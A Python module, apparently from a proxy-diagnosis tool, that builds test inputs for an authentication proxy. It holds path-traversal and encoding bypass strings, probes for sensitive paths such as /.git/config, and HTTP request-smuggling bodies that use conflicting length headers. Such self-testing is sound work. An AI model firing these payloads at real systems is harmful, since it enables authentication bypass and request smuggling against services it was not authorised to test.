"""PURE: the lists behind the attacks: paths, and requests whose length can be read in two ways."""

from __future__ import annotations

from typing import Final

OWN: Final = "/authproxy-doctor"
"""A path that no portal has."""
_PATHS: Final = """
/ /index.html /favicon.ico /robots.txt /sitemap.xml /assets/app.js /static/app.css /css/style.css /js/app.js
/images/logo.png /img/logo.svg /fonts/text.woff2 /media/film.mp4 /download/report.pdf /files/a.zip
/index.php /login.jsp /app.do /api/ /api/v1/users /public/ /health /healthz /status /metrics
/server-status /nginx_status /admin/ /.git/config /events /socket /ws
"""
PATHS: Final = tuple(_PATHS.split())
"""Paths that proxies often treat in a way of their own."""
_EXACT: Final = """
/doctor/a%20b /doctor/a%3Bb /doctor/~%7E /doctor//double /doctor/%C4%8D /doctor/ /Doctor/UPPER /doctor?
/doctor?a=1&a=2 /doctor/a%26b%3Dc?x=%2F..%2F&y=a+b%20c
"""
EXACT: Final = tuple(_EXACT.split())
"""Paths with one reading, which a proxy that rewrites them changes."""
AT_OWN_PATHS: Final = tuple(
    f"{beginning}{OWN}"
    for beginning in (
        "/.authproxy",
        "/.AUTHPROXY",
        "/%2eauthproxy",
        "/.authproxy;x",
        "//.authproxy",
        "/x/../.authproxy",
        "/.authproxy/%2e",
    )
)
"""What a careless server takes for something below our own path, or for something of its own there."""


def ambiguous(opened: str) -> tuple[str, ...]:
    """Paths that lead from an open place, or from one of ours, to a closed one for some readers."""
    among_open = (
        "/..%2f",
        "/../",
        "/%2e%2e/",
        "%2f..%2f",
        "/..;/",
        "/.%2e/",
        "/..%5c",
        "/%252e%252e/",
        "/%00/",
    )
    among_own = ("..%2f", "static/../../", "static/%2e%2e/%2e%2e/", "login/..;/")
    alone = ("/", "/.", "/%2f", "/\\")
    ends = (";x=1", "%00", "%0a", "%23/x", "#/x", "\u00e8")
    bare = OWN.removeprefix("/")
    return (
        *(f"{opened}{way}{bare}" for way in among_open),
        *(f"/.authproxy/{way}{bare}" for way in among_own),
        *(f"{beginning}{OWN}" for beginning in alone),
        *(f"{OWN}{end}" for end in ends),
    )


def of_two_lengths(inner: str) -> dict[str, str]:
    """The rest of a head and a body, by what is wrong with it. `inner` is the request that hides there."""
    ends_early, size = f"0\r\n\r\n{inner}", len(inner)
    length, chunked = f"Content-Length: {len(ends_early)}\r\n", "Transfer-Encoding: chunked\r\n"
    return {
        "Content-Length and Transfer-Encoding": f"{length}{chunked}\r\n{ends_early}",
        "Transfer-Encoding after a tab": f"{length}Transfer-Encoding:\tchunked\t\r\n\r\n{ends_early}",
        "Transfer-Encoding: xchunked": f"{length}Transfer-Encoding: xchunked\r\n\r\n{ends_early}",
        "Transfer-Encoding twice": f"{length}Transfer-Encoding: identity\r\n{chunked}\r\n{ends_early}",
        "a space before the colon": f"{length}Transfer-Encoding : chunked\r\n\r\n{ends_early}",
        "two lengths": f"Content-Length: 0\r\nContent-Length: {size}\r\n\r\n{inner}",
        "a length with a sign": f"Content-Length: +{size}\r\n\r\n{inner}",
        "a folded field": f"X-A: b\r\n Content-Length: {size}\r\nContent-Length: 0\r\n\r\n{inner}",
        "single line feeds": f"X-A: b\nContent-Length: {size}\r\nContent-Length: 0\r\n\r\n{inner}",
        "a chunk's size with an odd end": f"{chunked}\r\n0;\n\r\n\r\n{inner}",
    }
